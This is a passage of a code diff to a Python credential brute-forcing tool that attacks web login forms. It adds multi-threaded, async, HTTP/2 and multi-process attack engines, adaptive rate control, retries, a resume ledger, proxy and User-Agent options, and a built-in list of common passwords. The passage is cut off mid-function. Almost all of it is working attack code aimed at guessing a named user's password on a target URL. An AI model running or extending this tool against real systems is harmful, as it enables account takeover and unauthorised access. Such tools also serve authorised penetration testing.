+    def record_outcome(self, status_code=None, latency=None, timeout=False, error=False, retry_after=None):
+        """Tell the scheduler how a request went, and announce the circuit breaker opening or closing"""
+        change = self.scheduler.record(status_code, latency, timeout=timeout, error=error, retry_after=retry_after)
+        if change == 'opened':
+            breaker = self.scheduler.breaker
+            msg = f"[!] Target looks down ({breaker.threshold} errors in a row) - pausing the run, probing again every {breaker.cooldown:g}s or more"
+        elif change == 'closed':
+            msg = "[INFO] Target is answering again - resuming the run"
+        else:
+            return
+        self.console.event(Fore.YELLOW + msg)
+        self.log(msg)
+
+    def is_server_error(self, response, body=None):
+        """A 5xx answer is retried like a failed request, unless it is a CAPTCHA/challenge page"""
+        return response.status_code >= 500 and Verdict.CAPTCHA not in self.classifier.scan(decode_body(response, body))
+
+    def report_baseline(self, verdicts):
+        """Check how known-wrong passwords were classified and start tracking page changes"""
+        if Verdict.CAPTCHA in verdicts:
+            msg = "[!] CAPTCHA detected during calibration, before any password was tried"
+            self.console.event(Fore.YELLOW + msg)
+            self.log(msg)
+            self.request_stop()
+            return
+        if Verdict.SUCCESS in verdicts:
+            msg = "[!] Calibration: a random wrong password was classified as SUCCESS - check success_indicator/success_regex (any redirect counts as success unless follow_redirects is off) and the redirect rules"
+            self.console.event(Fore.YELLOW + msg)
+            self.log(msg)
+        elif self.classifier.has_failure_rule and Verdict.UNKNOWN in verdicts:
+            msg = "[!] Calibration: failure_indicator/failure_regex did not match the failure page - check the configured failure rule"
+            self.console.event(Fore.YELLOW + msg)
+            self.log(msg)
+        self.classifier.calibrated = True
+        self.console.event(Fore.CYAN + f"[INFO] Calibration: recorded baseline from {len(verdicts)} known-wrong password(s)")
+
+    # --- Thread pool engine ---
+
+    def _iter_passwords(self, passwords):
+        if isinstance(passwords, str):
+            return iter_passwords_from_file(passwords, self.limit)
+        return iter_passwords(passwords, self.limit)
+
+    def _entries(self, passwords):
+        """(index, password) pairs to attempt; with a ledger, from its resume position on and without passwords already tried"""
+        ledger = self._ledger
+        if ledger is None:
+            return enumerate(self._iter_passwords(passwords))
+        start = ledger.start()
+        if isinstance(passwords, str):
+            source = iter_passwords_from_file(passwords, self.limit, start)
+        else:
+            source = itertools.islice(iter_passwords(passwords, self.limit), start, None)
+        return self._untried(enumerate(source, start))
+
+    def _untried(self, entries):
+        ledger = self._ledger
+        for index, password in entries:
+            if ledger.tried(password):
+                ledger.skip(index)
+                # Keep the progress total to the attempts that will actually be sent
+                if self.stats.total:
+                    self.stats.total -= 1
+            else:
+                yield index, password
+
+    def check_ledger(self):
+        """Report what earlier runs left in the ledger; True if one of them already found the password"""
+        ledger = self._ledger
+        found = ledger.found()
+        if found is not None:
+            self.found = found
+            msg = f"[SUCCESS] Password found by an earlier run (ledger {ledger.path}): {found}"
+            self.console.event(Fore.GREEN + msg)
+            self.log(msg)
+            return True
+        # Shards leave this to the parent, which knows the whole wordlist
+        position = ledger.resume_position() if ledger.shards == 1 else 0
+        if position:
+            if self.stats.total is not None:
+                self.stats.total = max(0, self.stats.total - position)
+            msg = f"[INFO] Resuming after the first {position} wordlist entries, which earlier runs covered"
+            self.console.event(Fore.CYAN + msg)
+            self.log(msg, resume_position=position)
+        return False
+
+    def _headers(self):
+        return {'User-Agent': self.user_agent} if self.user_agent else {}
+
+    def calibrate(self):
+        verdicts = []
+        for password in calibration_passwords():
+            try:
+                response, body = send_attempt(self.session, self.url, self.template.encode(password), self.timeout,
+                                              self.classifier.max_body_bytes, self.classifier, headers=self.template.headers)
+            except requests.exceptions.RequestException as e:
+                self.console.event(Fore.YELLOW + f"[!] Calibration skipped: {e}")
+                return
+            verdicts.append(classify_response(response, self.classifier, body)[0])
+        self.report_baseline(verdicts)
+
+    def wait_for_breaker(self):
+        """Block while the circuit breaker holds the run; False if the run was stopped meanwhile"""
+        while True:
+            blocked = self.scheduler.blocked()
+            if blocked <= 0:
+                return not self.stop_event.is_set()
+            if self.stop_event.wait(blocked):
+                return False
+
+    def attempt(self, password, index=None, tries=0, queued=None):
+        """Send and evaluate one attempt on the shared session; returns password on success.
+
+        A failed request is handed to the retry queue rather than waited out here.
+        queued is the perf_counter() time the attempt was submitted to the executor.
+        """
+        trace = self.tracer.start_attempt() if self.tracer else None
+        if trace is None:
+            return self._attempt(password, index, tries)
+        if queued is not None:
+            trace.add_queued(queued, index)
+        activate(trace)
+        try:
+            return self._attempt(password, index, tries, trace)
+        finally:
+            activate(None)
+            self.tracer.finish(trace, index=index, tries=tries)
+
+    def _attempt(self, password, index, tries, trace=None):
+        if self.stop_event.is_set() or not self.wait_for_breaker():
+            return None
+        pause = self.scheduler.reserve()
+        if pause > 0 and self.stop_event.wait(pause):
+            return None
+        if not self.scheduler.acquire_host(self.stop_event):
+            return None
+        if self.stop_event.is_set():
+            self.scheduler.release_host()
+            return None
+        data = self.template.encode(password)
+        if tries and self.stats:
+            self.stats.record_retry()
+        start = perf_counter()
+        if trace:
+            trace.add('schedule', trace.start, start)
+        try:
+            response, body = send_attempt(self.session, self.url, data, self.timeout, self.classifier.max_body_bytes,
+                                          self.classifier, trace, self.template.headers)
+        except Exception as e:
+            latency = perf_counter() - start
+            self.scheduler.release_host()
+            if self.stop_event.is_set():
+                return None  # cut off by request_stop()
+            if not isinstance(e, requests.exceptions.RequestException):
+                raise
+            kind = classify_error(e)
+            if trace:
+                trace.add('request', start, start + latency, error=kind)
+            self.record_outcome(latency=latency, timeout=isinstance(e, requests.exceptions.Timeout), error=True)
+            self.report_failed(password, index, tries, latency, e, kind, trace=trace)
+            return None
+        latency = perf_counter() - start
+        self.scheduler.release_host()
+        retry_after = parse_retry_after(response.headers.get('Retry-After'))
+        self.record_outcome(response.status_code, latency, retry_after=retry_after)
+        if self.is_server_error(response, body):
+            self.report_failed(password, index, tries, latency, f"HTTP {response.status_code}", 'server', retry_after, trace)
+            return None
+        verdict = self.evaluate_response(response, password, body, index, latency, trace)
+        return password if verdict is Verdict.SUCCESS else None
+
+    def report_failed(self, password, index, tries, latency, error, kind, retry_after=None, trace=None):
+        """retry_or_report(), timed as the attempt's 'report' span when it is traced"""
+        start = perf_counter()
+        self.retry_or_report(password, index, tries, latency, error, kind, retry_after)
+        if trace:
+            trace.add('report', start, error=kind)
+
+    def _run_threads(self, entries):
+        # At most 2 * threads attempts are queued at a time
+        max_pending = self.threads * 2
+        proxies = {'http': self.proxy, 'https': self.proxy} if self.proxy else None
+        self.session = create_session(self.threads, self._headers(), proxies)
+        self.protocol = 'HTTP/1.1'
+        executor = ThreadPoolExecutor(max_workers=self.threads)
+        pending = set()
+
+        def collect(timeout=STOP_POLL_INTERVAL):
+            """Wait for an attempt to finish (or just for timeout when none is running)"""
+            nonlocal pending
+            if pending:
+                done, pending = wait(pending, timeout=timeout, return_when=FIRST_COMPLETED)
+            else:
+                self.stop_event.wait(timeout)
+
+        try:
+            if self.calibrate_baseline:
+                self.calibrate()
+            self.console.start(self.stats, self.progress_interval)
+            source = entries
+            exhausted = False
+            while not self.stop_event.is_set():
+                # Retries whose backoff is over go first, then new passwords
+                item = self.retry_queue.pop_due()
+                if item is None and not exhausted:
+                    entry = next(source, None)
+                    if entry is None:
+                        exhausted = True
+                    else:
+                        item = (*entry, 0)
+                if item is None:
+                    if not pending and not len(self.retry_queue):
+                        break
+                    due = self.retry_queue.wait_time()
+                    collect(STOP_POLL_INTERVAL if due is None else min(due, STOP_POLL_INTERVAL))
+                    continue
+                # Adaptive runs keep exactly `limit` attempts in flight, none queued behind them
+                while (pending and not self.stop_event.is_set()
+                       and len(pending) >= (self.scheduler.limit if self.scheduler.limiter else max_pending)):
+                    collect()
+                if self.stop_event.is_set():
+                    break
+                index, password, tries = item
+                pending.add(executor.submit(self.attempt, password, index, tries, perf_counter()))
+        finally:
+            # Queued attempts are dropped; the ones in flight were cut off by request_stop()
+            executor.shutdown(wait=False, cancel_futures=True)
+            if pending:
+                wait(pending, timeout=STOP_GRACE)
+            self.session.close()
+            self.session = None
+
+    # --- Async engine ---
+
+    def _send_async(self, http, timeout, password, trace=None):
+        """Send one attempt on the async engine's client (aiohttp, or httpx for the http2 engine)"""
+        data = self.template.encode(password)
+        if self.engine == 'http2':
+            return send_http2_attempt(http, self.url, data, timeout, self.classifier.max_body_bytes, self.classifier, trace,
+                                      self.template.headers)
+        return send_async_attempt(http, self.url, data, self.proxy, timeout, self.classifier.max_body_bytes,
+                                  self.classifier, trace, self.template.headers)
+
+    async def calibrate_async(self, http, timeout, errors):
+        verdicts = []
+        for password in calibration_passwords():
+            try:
+                response = await self._send_async(http, timeout, password)
+            except errors as e:
+                self.console.event(Fore.YELLOW + f"[!] Calibration skipped: {e}")
+                return
+            verdicts.append(classify_response(response, self.classifier)[0])
+        self.report_baseline(verdicts)
+
+    async def attempt_async(self, http, timeout, errors, password, index=None, tries=0, trace=None):
+        """Send and evaluate one attempt; the async counterpart of attempt(). errors are the client's exception types"""
+        if tries and self.stats:
+            self.stats.record_retry()
+        start = perf_counter()
+        try:
+            response = await self._send_async(http, timeout, password, trace)
+        except errors as e:
+            latency = perf_counter() - start
+            kind = classify_error(e)
+            if trace:
+                trace.add('request', start, start + latency, error=kind)
+            self.record_outcome(latency=latency, timeout=kind == 'timeout', error=True)
+            self.report_failed(password, index, tries, latency, e, kind, trace=trace)
+            return
+        latency = perf_counter() - start
+        retry_after = parse_retry_after(response.headers.get('Retry-After'))
+        self.record_outcome(response.status_code, latency, retry_after=retry_after)
+        if self.is_server_error(response):
+            self.report_failed(password, index, tries, latency, f"HTTP {response.status_code}", 'server', retry_after, trace)
+            return
+        self.evaluate_response(response, password, index=index, latency=latency, trace=trace)
+
+    async def _async_worker(self, http, timeout, errors, passwords, worker=0):
+        """Take due retries first, then passwords from the shared iterator, until both run out or the run stops"""
+        scheduler = self.scheduler
+        tracer = self.tracer
+        while not self.stop_event.is_set():
+            item = self.retry_queue.pop_due()
+            if item is None:
+                entry = next(passwords, None)
+                if entry is not None:
+                    item = (*entry, 0)
+            if item is None:
+                # Keep going while a retry is queued, or an attempt in flight may still queue one
+                if not len(self.retry_queue) and not scheduler.in_flight:
+                    return
+                due = self.retry_queue.wait_time()
+                await asyncio.sleep(STOP_POLL_INTERVAL if due is None else min(due, STOP_POLL_INTERVAL))
+                continue
+            index, password, tries = item
+            # Coroutines share one thread, so each worker gets its own track in the trace
+            trace = tracer.start_attempt(worker + 1, f"async worker {worker}") if tracer else None
+            blocked = scheduler.blocked()
+            while blocked > 0:
+                await asyncio.sleep(blocked)
+                if self.stop_event.is_set():
+                    return
+                blocked = scheduler.blocked()
+            # Above the adaptive limit, wait for another worker's request to finish
+            while not scheduler.try_start():
+                if self.stop_event.is_set():
+                    return
+                await asyncio.sleep(0.005)
+            try:
+                if self.stop_event.is_set():
+                    return
+                pause = scheduler.reserve()
+                if pause > 0:
+                    await asyncio.sleep(pause)
+                    if self.stop_event.is_set():
+                        return
+                if trace:
+                    trace.add('schedule', trace.start)
+                await self.attempt_async(http, timeout, errors, password, index, tries, trace)
+                if trace:
+                    tracer.finish(trace, index=index, tries=tries)
+            finally:
+                scheduler.finish()
+
+    async def _open_async_client(self):
+        """(client, per-request timeout, exception types of a failed request) for the async engines"""
+        if self.engine == 'http2':
+            import httpx
+            http, self.protocol = await open_http2_client(self.url, self.threads, self._headers(), self.proxy, self.timeout)
+            if self.protocol:
+                note = "multiplexing attempts" if self.protocol == 'HTTP/2' else "the target does not speak HTTP/2, falling back"
+                self.console.event(Fore.CYAN + f"[INFO] Negotiated {self.protocol} ({note})")
+            return http, httpx.Timeout(self.timeout), (httpx.HTTPError, asyncio.TimeoutError)
+        import aiohttp
+        self.protocol = 'HTTP/1.1'
+        connector = aiohttp.TCPConnector(limit=self.threads)
+        trace_configs = [aiohttp_trace_config()] if self.tracer else None
+        # No shared cookie jar: every attempt must start logged out
+        http = aiohttp.ClientSession(connector=connector, headers=self._headers(), cookie_jar=aiohttp.DummyCookieJar(),
+                                     trace_configs=trace_configs)
+        return http, aiohttp.ClientTimeout(total=self.timeout), (aiohttp.ClientError, asyncio.TimeoutError)
+
+    async def _attack_async(self, passwords):
+        http, timeout, errors = await self._open_async_client()
+        try:
+            if self.calibrate_baseline:
+                await self.calibrate_async(http, timeout, errors)
+            self.console.start(self.stats, self.progress_interval)
+            stopped = asyncio.Event()
+            self._async_stop = (asyncio.get_running_loop(), stopped)
+            if self.stop_event.is_set():
+                stopped.set()
+            workers = [asyncio.create_task(self._async_worker(http, timeout, errors, passwords, worker))
+                       for worker in range(self.threads)]
+            watcher = asyncio.create_task(self._cancel_on_stop(stopped, workers))
+            try:
+                await asyncio.wait(workers)
+                for worker in workers:
+                    if not worker.cancelled() and worker.exception():
+                        raise worker.exception()
+            finally:
+                self._async_stop = None
+                watcher.cancel()
+                self.console.stop()
+        finally:
+            # The http2 probe has already opened its httpx client, so neither kind is used with `async with`
+            await (http.aclose() if self.engine == 'http2' else http.close())
+
+    @staticmethod
+    async def _cancel_on_stop(stopped, workers):
+        """Cancel the workers, and with them their requests in flight, once the run is stopped"""
+        await stopped.wait()
+        for worker in workers:
+            worker.cancel()
+
+    # --- Sharded (multi-process) mode ---
+
+    def _shard_options(self):
+        """Settings for each shard's own single-process engine"""
+        return {
+            'username_field': self.username_field, 'password_field': self.password_field, 'body_format': self.body_format,
+            'success_indicator': self.success_indicator, 'failure_indicator': self.failure_indicator,
+            'success_regex': self.success_regex, 'failure_regex': self.failure_regex,
+            'proxy': self.proxy, 'user_agent': self.user_agent, 'threads': self.threads, 'timeout': self.timeout,
+            'delay': self.delay, 'debug': self.debug, 'max_body_kb': self.max_body_kb,
+            'calibrate_baseline': self.calibrate_baseline, 'adaptive': self.adaptive, 'engine': self.engine,
+            'follow_redirects': self.follow_redirects, 'success_status': self.success_status,
+            'failure_status': self.failure_status, 'success_location': self.success_location,
+            'failure_location': self.failure_location, 'success_cookie': self.success_cookie,
+            'max_retries': self.max_retries, 'breaker_threshold': self.breaker_threshold,
+            'retry_budget': -(-self.retry_budget // self.processes) if self.retry_budget is not None else None,
+            # The rate and retry budget are for the whole run, so every shard gets its share
+            'rate': self.rate / self.processes if self.rate else None,
+        }
+
+    def _run_sharded(self, wordlist):
+        """Entry i of wordlist goes to shard i % processes; every shard process streams only its own entries.
+
+        Shards forward stats deltas, log records, console events and (when
+        results() is in use) attempt results, and their trace events at the end; this process merges them into the
+        single status line, logfile and result. A success in any shard stops all.
+        """
+        if not isinstance(wordlist, (str, list)):
+            wordlist = list(wordlist)
+        ctx = multiprocessing.get_context('spawn')
+        messages = ctx.Queue()
+        stop = ctx.Event()
+        workers = [
+            ctx.Process(target=run_shard, args=(shard, self.processes, self.url, self.username, wordlist, self.limit,
+                                                self._shard_options(), self.console.verbose, bool(self._subscribers),
+                                                messages, stop, self.tracer.sample if self.tracer else None,
+                                                self.recorder.path if self.recorder else None,
+                                                (self._ledger.path, self._ledger.wordlist) if self._ledger else None),
+                        daemon=True)
+            for shard in range(self.processes)
+        ]
+        concurrency = {}
+        seen_events = set()
+        try:
+            for worker in workers:
+                worker.start()
+            self.console.start(self.stats, self.progress_interval)
+            running = self.processes
+            while running:
+                if self.stop_event.is_set():
+                    stop.set()
+                try:
+                    message = messages.get(timeout=0.1)
+                except queue.Empty:
+                    if not any(worker.is_alive() for worker in workers):
+                        break  # a shard died without reporting
+                    continue
+                kind = message[0]
+                if kind == 'stats':
+                    _, shard, delta = message
+                    self.stats.merge(delta)
+                    if delta['concurrency'] is not None:
+                        concurrency[shard] = delta['concurrency']
+                        self.stats.concurrency = sum(concurrency.values())
+                elif kind == 'log':
+                    self.log(message[1], **message[2])
+                elif kind == 'result':
+                    self._publish(AttemptResult(*message[1]))
+                elif kind == 'trace':
+                    if self.tracer:
+                        self.tracer.extend(message[1])
+                elif kind == 'event':
+                    # Every shard calibrates and warns on its own; show each distinct line once
+                    if message[1] not in seen_events:
+                        if len(seen_events) > 10000:
+                            seen_events.clear()
+                        seen_events.add(message[1])
+                        self.console.event(message[1])
+                elif kind == 'done':
+                    _, shard, found, protocol = message
+                    running -= 1
+                    # Every shard negotiates on its own; report the one any of them got
+                    self.protocol = self.protocol or protocol
+                    with self.result_lock:
+                        if found and not self.found:
+                            self.found = found
+                            stop.set()
+                            self.request_stop()
+                            self.flush_log()
+        finally:
+            stop.set()
+            for worker in workers:
+                if worker.pid is None:
+                    continue  # never started
+                worker.join(timeout=5)
+                if worker.is_alive():
+                    worker.terminate()
 
 def brute_force_login(
     url, username, password_list, username_field, password_field, success_indicator, failure_indicator, success_regex, failure_regex,
-    proxy=None, user_agent=None, progress_interval=10, logfile=None, threads=4, timeout=10, delay=0, debug=False
+    proxy=None, user_agent=None, progress_interval=10, logfile=None, threads=4, timeout=10, delay=0, debug=False, total=None, max_body_kb=None,
+    calibrate_baseline=True, stats=None, rate=None, adaptive=False, engine='threads'
 ):
-    headers = {'User-Agent': user_agent} if user_agent else {}
-    proxies = {'http': proxy, 'https': proxy} if proxy else None
-    total = len(password_list)
-    progress_queue = Queue()
-    with ThreadPoolExecutor(max_workers=threads) as executor:
-        futures = []
-        for password in password_list:
-            password = password.strip()
-            if not password:
-                continue
-            if stop_event.is_set():
-                break
-            futures.append(executor.submit(
-                brute_force_worker, url, username, password, username_field, password_field, headers, proxies, timeout,
-                success_indicator, failure_indicator, success_regex, failure_regex, logfile, progress_queue, delay, debug
-            ))
-        tried = 0
-        for future in as_completed(futures):
-            tried += progress_queue.get()
-            if tried % progress_interval == 0 or tried == total:
-                print(Fore.CYAN + f"[PROGRESS] {tried}/{total} passwords tried...")
-            if stop_event.is_set():
-                break
-    found = first_result['found']
-    if not found:
-        print(Fore.YELLOW + "[RESULT] Password not found in the provided list.")
-        log_result(logfile, "[RESULT] Password not found in the provided list.")
-    return found
-
-def load_passwords_from_file(file_path, max_passwords=1000):
-    """Load passwords from file with a limit for performance"""
-    passwords = []
+    """Run one attack and return the password found, or None; shorthand for BruteEngine(...).run()"""
+    return BruteEngine(
+        url, username, username_field, password_field, success_indicator, failure_indicator, success_regex, failure_regex,
+        proxy=proxy, user_agent=user_agent, progress_interval=progress_interval, logfile=logfile, threads=threads,
+        timeout=timeout, delay=delay, debug=debug, max_body_kb=max_body_kb, calibrate_baseline=calibrate_baseline,
+        rate=rate, adaptive=adaptive, engine=engine, stats=stats
+    ).run(password_list, total)
+
+def brute_force_login_async(*args, **kwargs):
+    """Same attack as brute_force_login, with `threads` coroutines sharing one asyncio event loop"""
+    return brute_force_login(*args, engine='async', **kwargs)
+
+def iter_passwords(lines, limit=None):
+    """Yield stripped, non-empty passwords from any iterable of lines, stopping after `limit`"""
+    count = 0
+    for line in lines:
+        if limit is not None and count >= limit:
+            return
+        password = line.strip()
+        if password:
+            count += 1
+            yield password
+
+def iter_passwords_from_file(file_path, limit=None, start=0, step=1):
+    """Lazily stream passwords start, start + step, ... from a text or compiled wordlist file.
+
+    A text file is read one line at a time; a compiled one jumps straight to each entry.
+    """
+    if is_compiled_wordlist(file_path):
+        with CompiledWordlist(file_path) as words:
+            yield from words.iter(start, step, limit)
+        return
+    with open(file_path, 'r', errors='replace') as f:
+        yield from itertools.islice(iter_passwords(f, limit), start, None, step)
+
+def count_passwords_in_file(file_path, limit=None):
+    """Count usable entries in a wordlist without keeping them in memory"""
     try:
-        with open(file_path, 'r') as f:
-            count = 0
-            for line in f:
-                line = line.strip()
-                if line and count < max_passwords:
-                    passwords.append(line)
-                    count += 1
-                if count >= max_passwords:
-                    break
-        print(Fore.GREEN + f"[+] Loaded {len(passwords)} passwords from {file_path}")
-        return passwords
+        if is_compiled_wordlist(file_path):
+            with CompiledWordlist(file_path) as words:
+                return len(words) if limit is None else min(limit, len(words))
+        return sum(1 for _ in iter_passwords_from_file(file_path, limit))
     except Exception as e:
         print(Fore.RED + f"[!] Error reading {file_path}: {e}")
-        return []
+        return 0
 
 def get_builtin_passwords():
-    """Return a list of common passwords for fallback"""
-    return [
+    """Return a list of common passwords for fallback, without duplicates"""
+    return list(dict.fromkeys([
         "123456", "password", "123456789", "12345678", "12345", "qwerty", "abc123",
         "football", "1234567", "monkey", "111111", "letmein", "1234", "1234567890",
         "dragon", "baseball", "sunshine", "princess", "master", "hello", "freedom",
@@ -192,7 +1337,7 @@ def get_builtin_passwords():
         "love", "5201314", "zoosk", "freedom", "ninja", "cameron", "starwars",
         "fishing", "cowboys", "enigma", "bheem", "matt", "peanut", "morgan",
         "wizard", "cooper", "tester", "trustno1", "butter"
-    ]
+    ]))
 
 def main():
     parser = argparse.ArgumentParser(description="Brute-force login script")
@@ -202,6 +1347,7 @@ def main():
     parser.add_argument('--config', help='Path to YAML config file', required=False)
     parser.add_argument('--username-field', help='Form field name for username', default=None)
     parser.add_argument('--password-field', help='Form field name for password', default=None)
+    parser.add_argument('--body-format', choices=BODY_FORMATS, help='Send the login as a URL-encoded form (default) or a JSON object', default=None)
     parser.add_argument('--success-indicator', help='Text/HTML indicating success', default=None)
     parser.add_argument('--failure-indicator', help='Text/HTML indicating failure', default=None)
     parser.add_argument('--success-regex', help='Regex for success detection', default=None)
@@ -210,39 +1356,53 @@ def main():
     parser.add_argument('--user-agent', help='Custom User-Agent string (optional)', default=None)
     parser.add_argument('--progress-interval', type=int, help='Show progress every N attempts (default: 10)', default=10)
     parser.add_argument('--logfile', help='Log file to save results', default=None)
+    parser.add_argument('--log-format', choices=LOG_FORMATS, help='Log file format: text (default) or jsonl (one JSON record per attempt)', default=None)
+    parser.add_argument('--log-fsync-interval', type=float, help='Seconds between fsyncs of the log file (default: 1)', default=None)
     parser.add_argument('--threads', type=int, help='Number of threads (default: 4)', default=4)
     parser.add_argument('--timeout', type=int, help='Request timeout in seconds (default: 10)', default=10)
-    parser.add_argument('--delay', type=float, help='Delay (in seconds) between requests per thread (default: 0)', default=0)
+    parser.add_argument('--delay', type=float, help='Delay (in seconds) between requests per thread, applied as a global rate of threads/delay req/s (default: 0)', default=0)
+    parser.add_argument('--rate', type=float, help='Cap the whole run at N requests per second (default: unlimited)', default=None)
+    parser.add_argument('--adaptive', action='store_true', help='Adapt concurrency (up to --threads) to server health: back off on 429/503, timeouts and rising latency')
     parser.add_argument('--debug', action='store_true', help='Print server response for each attempt')
+    parser.add_argument('-v', '--verbose', action='store_true', help='Print a line for every attempt (default: live status line only)')
+    parser.add_argument('--limit', type=int, help='Only try the first N passwords of the wordlist (default: all)', default=None)
+    parser.add_argument('--max-body-kb', type=float, help='Only inspect the first N KB of each response body (default: all)', default=None)
+    parser.add_argument('--no-calibrate', action='store_true', help='Skip the baseline calibration with random wrong passwords')
+    parser.add_argument('--stats-file', help='Periodically rewrite live run statistics (JSON) to this file', default=None)
+    parser.add_argument('--stats-interval', type=float, help='Seconds between stats file updates (default: 2)', default=None)
+    parser.add_argument('--metrics-port', type=int, help='Serve Prometheus metrics on http://127.0.0.1:PORT/metrics', default=None)
+    parser.add_argument('--engine', choices=['threads', 'async', 'http2'], help="Request engine: threads (default), async (requires aiohttp) or http2 (HTTP/2 where the target supports it, requires httpx[http2])", default=None)
+    parser.add_argument('--max-retries', type=int, help='Times a password is sent again after a timeout, refused/reset connection or 5xx (default: 3)', default=None)
+    parser.add_argument('--retry-budget', type=int, help='Retries allowed in the whole run (default: 100)', default=None)
+    parser.add_argument('--breaker-threshold', type=int, help='Pause the run after N errors in a row until the target answers again; 0 disables (default: 10)', default=None)
+    parser.add_argument('--trace', help='Record the phases of a sample of attempts to this Chrome trace file (open in ui.perfetto.dev)', default=None)
+    parser.add_argument('--trace-sample', type=float, help='Fraction of attempts traced with --trace (default: 0.01)', default=None)
+    parser.add_argument('--record', help='Archive every classified response to this file, for recording.py replay', default=None)
+    parser.add_argument('--ledger', help='SQLite file remembering attempts across runs: resume an interrupted run and skip passwords already tried against this target', default=None)
+    parser.add_argument('--processes', type=int, help='Split the wordlist into N shards, each run by its own engine process (default: 1)', default=None)
     args = parser.parse_args()
 
-    config = load_config(args.config)
-    target_url = merge_config_arg(args.url, config.get('url'), None)
-    username = merge_config_arg(args.username, config.get('username'), None)
-    wordlist_path = merge_config_arg(args.wordlist, config.get('wordlist'), None)
-    username_field = merge_config_arg(args.username_field, config.get('username_field'), 'username')
-    password_field = merge_config_arg(args.password_field, config.get('password_field'), 'password')
-    success_indicator = merge_config_arg(args.success_indicator, config.get('success_indicator'), 'welcome')
-    failure_indicator = merge_config_arg(args.failure_indicator, config.get('failure_indicator'), None)
-    success_regex = merge_config_arg(args.success_regex, config.get('success_regex'), None)
-    failure_regex = merge_config_arg(args.failure_regex, config.get('failure_regex'), None)
-    proxy = merge_config_arg(args.proxy, config.get('proxy'), None)
-    user_agent = merge_config_arg(args.user_agent, config.get('user_agent'), None)
-    progress_interval = int(merge_config_arg(args.progress_interval, config.get('progress_interval'), 10))
-    logfile = merge_config_arg(args.logfile, config.get('logfile'), None)
-    threads = int(merge_config_arg(args.threads, config.get('threads'), 4))
-    timeout = int(merge_config_arg(args.timeout, config.get('timeout'), 10))
-    delay = float(merge_config_arg(args.delay, config.get('delay'), 0))
-    debug = bool(args.debug or config.get('debug', False))
+    # Command-line values override the config file
+    settings = dict(load_config(args.config) or {})
+    for key in ('url', 'username', 'wordlist', 'username_field', 'password_field', 'body_format', 'success_indicator',
+                'failure_indicator', 'success_regex', 'failure_regex', 'proxy', 'user_agent', 'progress_interval', 'logfile',
+                'log_format', 'log_fsync_interval', 'threads', 'timeout', 'delay', 'rate', 'limit', 'max_body_kb', 'stats_file',
+                'stats_interval', 'metrics_port', 'engine', 'processes', 'max_retries', 'retry_budget', 'breaker_threshold',
+                'trace', 'trace_sample', 'record', 'ledger'):
+        settings[key] = merge_config_arg(getattr(args, key), settings.get(key))
+    for flag in ('debug', 'verbose', 'adaptive'):
+        settings[flag] = bool(getattr(args, flag) or settings.get(flag, False))
+    if args.no_calibrate:
+        settings['calibrate'] = False
 
     # Get user input
-    if not target_url:
-        target_url = input("Enter target login URL: ").strip()
-    if not username:
-        username = input("Enter username: ").strip()
+    if not settings.get('url'):
+        settings['url'] = input("Enter target login URL: ").strip()
+    if not settings.get('username'):
+        settings['username'] = input("Enter username: ").strip()
     
     # Handle password loading
-    passwords = []
+    wordlist_path = settings.get('wordlist')
     if not wordlist_path:
         print(Fore.CYAN + "\n[INFO] Password options:")
         print(Fore.CYAN + "1. Use passwords.txt (default)")
@@ -264,51 +1424,97 @@ def main():
         else:
             wordlist_path = "passwords.txt"
     
-    # Load passwords
-    if wordlist_path == "builtin":
-        print(Fore.CYAN + "[INFO] Using built-in passwords...")
-        passwords = get_builtin_passwords()
-    else:
-        passwords = load_passwords_from_file(wordlist_path, max_passwords=1000)
-        if not passwords:
+    # Load passwords (wordlist files are streamed, never held in memory)
+    limit = int(settings['limit']) if settings.get('limit') is not None else None
+    total = 0
+    if wordlist_path != "builtin":
+        total = count_passwords_in_file(wordlist_path, limit)
+        if total:
+            print(Fore.GREEN + f"[+] Streaming {total} passwords from {wordlist_path}")
+            passwords = wordlist_path
+        else:
             print(Fore.YELLOW + "[!] Could not load passwords from file. Using built-in passwords.")
-            passwords = get_builtin_passwords()
+    if not total:
+        print(Fore.CYAN + "[INFO] Using built-in passwords...")
+        passwords = list(iter_passwords(get_builtin_passwords(), limit))
+        total = len(passwords)
 
-    if not passwords:
+    if not total:
         print(Fore.RED + "[!] No passwords available. Exiting.")
         sys.exit(1)
     
-    print(Fore.GREEN + f"[+] Loaded {len(passwords)} passwords for brute force attack")
-    print(Fore.CYAN + f"[INFO] Starting brute force attack against: {target_url}")
-    print(Fore.CYAN + f"[INFO] Target username: {username}")
+    print(Fore.GREEN + f"[+] Loaded {total} passwords for brute force attack")
+    print(Fore.CYAN + f"[INFO] Starting brute force attack against: {settings['url']}")
+    print(Fore.CYAN + f"[INFO] Target username: {settings['username']}")
     print(Fore.CYAN + f"[INFO] Press Ctrl+C to stop the attack at any time")
     print(Fore.CYAN + "=" * 60)
 
-    found = brute_force_login(
-        target_url,
-        username,
-        passwords,
-        username_field,
-        password_field,
-        success_indicator,
-        failure_indicator,
-        success_regex,
-        failure_regex,
-        proxy=proxy,
-        user_agent=user_agent,
-        progress_interval=progress_interval,
-        logfile=logfile,
-        threads=threads,
-        timeout=timeout,
-        delay=delay,
-        debug=debug
-    )
+    stats = RunStats()
+    stats.total = total
+    stats_file = settings.get('stats_file')
+    stats_interval = float(settings.get('stats_interval') or 2)
+    metrics_port = settings.get('metrics_port')
+    exporter = StatsExporter(stats, stats_file, stats_interval, metrics_port)
+    if stats_file:
+        print(Fore.CYAN + f"[INFO] Writing live stats to {stats_file} every {stats_interval:g}s")
+    if metrics_port is not None:
+        print(Fore.CYAN + f"[INFO] Prometheus metrics at http://127.0.0.1:{metrics_port}/metrics")
+
+    logfile = settings.get('logfile')
+    if logfile:
+        logfile = LogWriter(logfile, settings.get('log_format') or 'text', float(settings.get('log_fsync_interval') or 1))
+
+    trace_file = settings.get('trace')
+    tracer = Tracer(float(settings.get('trace_sample') or 0.01)) if trace_file else None
+    if tracer:
+        print(Fore.CYAN + f"[INFO] Tracing 1 in {tracer.every} attempts to {trace_file}")
+
+    record = settings.get('record')
+    recorder = ResponseRecorder(record) if record else None
+    if recorder:
+        print(Fore.CYAN + f"[INFO] Recording responses to {record}")
+
+    ledger = settings.get('ledger')
+    if ledger:
+        print(Fore.CYAN + f"[INFO] Remembering attempts in the ledger {ledger}")
+
+    console = Console(verbose=settings['verbose'])
+    engine = BruteEngine.from_config(settings, logfile=logfile, stats=stats, console=console, tracer=tracer,
+                                     recorder=recorder)
+    if engine.processes > 1:
+        print(Fore.CYAN + f"[INFO] Sharding the wordlist across {engine.processes} processes ({engine.threads} {'threads' if engine.engine == 'threads' else 'coroutines'} each)")
+
+    def interrupt(sig, frame):
